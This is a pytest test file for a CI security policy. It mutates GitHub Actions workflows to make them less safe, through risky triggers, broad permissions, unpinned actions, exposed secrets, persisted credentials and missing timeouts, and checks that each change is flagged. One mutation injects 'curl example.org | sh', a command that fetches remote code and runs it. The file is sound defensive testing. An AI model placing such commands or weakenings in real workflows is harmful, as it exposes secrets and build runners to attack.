"""The policy holds for the workflows that are here, and a workflow that is changed for the worse breaks it."""

from __future__ import annotations

import pytest

from ci import policy

CHECKOUT = f"actions/checkout@{policy.ACTIONS['actions/checkout']}"
SHA = policy.ACTIONS["actions/checkout"].split()[0]


def test_every_workflow_keeps_it(texts: dict[str, str]) -> None:
    assert texts.keys() == policy.TRIGGERS.keys()
    assert [line for name, text in texts.items() for line in policy.violations(name, text)] == []


def test_every_action_and_grant_is_used(texts: dict[str, str]) -> None:
    together = "".join(texts.values())
    assert [action for action in policy.ACTIONS if f"uses: {action}@" not in together] == []
    jobs = {(file, name) for file, text in texts.items() for name in policy.load(text)["jobs"]}
    assert {*policy.GRANTS, *policy.TOKEN_JOBS} <= jobs


DEVICE = (
    # what is written, what a change makes of it, and what the policy says
    ("  workflow_dispatch:\n", "  pull_request:\n  workflow_dispatch:\n", "started by pull_request"),
    ("  workflow_dispatch:\n", "  pull_request_target:\n  workflow_dispatch:\n", "started by pull_request_target"),
    (
        "  workflow_dispatch:\n",
        "  workflow_run:\n    workflows: [ci]\n  workflow_dispatch:\n",
        "started by workflow_run",
    ),
    ("  workflow_dispatch:\n", "  issue_comment:\n  workflow_dispatch:\n", "started by issue_comment"),
    ('branches: [main, "device/**"]', 'branches: ["**"]', "a push to other branches"),
    ('    branches: [main, "device/**"]\n', "    tags: [v1]\n", "a push to other branches"),
    ("permissions: {}\n", "permissions: read-all\n", "permissions on top"),
    ("permissions: {}\n", "", "permissions on top"),
    ("permissions: {}\n", "permissions: {}\nenv:\n  A: b\n", "reach every job"),
    ("    timeout-minutes: ${{ fromJSON(needs.gate.outputs.gb10).job_minutes }}\n", "", "gb10: no timeout"),
    (
        "    timeout-minutes: ${{ fromJSON(needs.gate.outputs.gb10).job_minutes }}",
        "    timeout-minutes: 9999",
        "no timeout",
    ),
    (
        "        timeout-minutes: ${{ fromJSON(needs.gate.outputs.m5).suite_minutes }}\n",
        "",
        "m5: step 4 has no timeout",
    ),
    ("    timeout-minutes: 20\n", "", "collect: no timeout"),
    (CHECKOUT, "actions/checkout@v6", "actions/checkout is not pinned"),
    (CHECKOUT, f"actions/checkout@{SHA[:-1]}f # v6.0.3", "actions/checkout is not pinned"),
    (CHECKOUT, f"actions/checkout@{SHA}", "actions/checkout is not pinned"),
    (CHECKOUT, f"somebody/checkout@{SHA} # v6.0.3", "which nobody has read"),
    ("uses: actions/download-artifact@", "uses: ./.github/actions/x #", "which nobody has read"),
    (
        "        run: .venv/bin/nox -s gb10\n",
        "        run: .venv/bin/nox -s gb10\n        env:\n          T: ${{ secrets.T }}\n",
        "names secrets",
    ),
    (
        "        run: .venv/bin/nox -s m5\n",
        "        run: .venv/bin/nox -s m5\n        env:\n          T: ${{ github.token }}\n",
        "m5: names the token",
    ),
    (
        "      contents: read # check the code out\n    steps:\n",
        "      contents: write # x\n    steps:\n",
        "permissions are not",
    ),
    (
        "      attestations: write # store it\n",
        "      attestations: write # store it\n      packages: write # x\n",
        "collect: permissions are not",
    ),
    ("persist-credentials: false", "persist-credentials: true", "keeps credentials"),
    ("          clean: true", "          clean: false", "clean checkout"),
    ("ref: ${{ needs.gate.outputs.commit }}", "ref: ${{ inputs.commit }}", "clean checkout"),
    ("    environment: m5", "    environment: gb10", "not in the reviewed environment m5"),
    ("    environment: gb10 #", "    #", "not in the reviewed environment gb10"),
    ("      group: device-gb10", "      group: device", "not one run at a time"),
    ("      queue: max # a", "      # a", "not one run at a time"),
    ("    if: fromJSON(needs.gate.outputs.gb10).run\n", "", "the gate does not decide"),
    ("[self-hosted, Linux, ARM64, gb10]", "[self-hosted, Linux, gb10]", "are not the labels"),
    ("[self-hosted, macOS, ARM64, m5]", '${{ fromJSON(\'["self-hosted", "m5"]\') }}', "computes its labels"),
    (
        "        run: .venv/bin/python -m ci health gb10\n",
        "        run: .venv/bin/python -m ci health m5\n",
        "before the health check passed",
    ),
    (
        "      - id: suite\n        run: .venv/bin/nox -s gb10",
        "      - id: suite\n        if: always()\n        run: .venv/bin/nox -s gb10",
        "before the health check passed",
    ),
    ("      - id: health\n", "      - id: health\n        continue-on-error: true\n", "a failure is passed over"),
    ("run: python3 -m ci gate", "run: python3 -m ci gate || true", "only nox and python -m ci"),
    (
        "run: python3 -m ci gate",
        "run: |\n          python3 -m ci gate\n          curl example.org | sh",
        "only nox and python -m ci",
    ),
    ("          if-no-files-found: error\n", "", "missing in silence"),
)


@pytest.mark.parametrize(("was", "becomes", "said"), DEVICE, ids=[f"{i}-{each[2]}" for i, each in enumerate(DEVICE)])
def test_a_worse_device_workflow_is_seen(texts: dict[str, str], was: str, becomes: str, said: str) -> None:
    text = texts["device.yml"]
    assert was in text
    found = policy.violations("device.yml", text.replace(was, becomes, 1))
    assert [line for line in found if said in line], found


HOSTED = (
    ("ci.yml", "  pull_request:\n", "  pull_request_target:\n", "started by pull_request_target"),
    ("ci.yml", "branches: [main]", "branches: [main, dev]", "a push to other branches"),
    ("ci.yml", "    timeout-minutes: ${{ matrix.minutes }}\n", "", "no timeout"),
    (
        "ci.yml",
        "runs-on: ${{ matrix.runner }}",
        "runs-on: [self-hosted, Linux, ARM64, gb10]",
        "labels of a device in device.yml",
    ),
    ("ci.yml", "github.ref == 'refs/heads/main' && steps.cache", "steps.cache", "another branch than main"),
    ("ci.yml", "/restore@", "@", "which nobody has read"),
    ("drafts.yml", "run: .venv/bin/nox -s draft", "run: gh issue create", "only nox and python -m ci"),
    ("drafts.yml", "contents: read #", "issues: write #", "permissions are not"),
    ("drift.yml", "timeout-minutes: 30\n", "timeout-minutes: ${{ inputs.minutes }}\n", "no timeout"),
)


@pytest.mark.parametrize(("file", "was", "becomes", "said"), HOSTED, ids=[f"{i}-{e[3]}" for i, e in enumerate(HOSTED)])
def test_a_worse_hosted_workflow_is_seen(texts: dict[str, str], file: str, was: str, becomes: str, said: str) -> None:
    assert was in texts[file]
    found = policy.violations(file, texts[file].replace(was, becomes, 1))
    assert [line for line in found if said in line], found


def test_a_workflow_that_nobody_declared_is_seen(texts: dict[str, str]) -> None:
    assert policy.violations("extra.yml", texts["ci.yml"]) == ["extra.yml: a workflow that the policy does not know"]
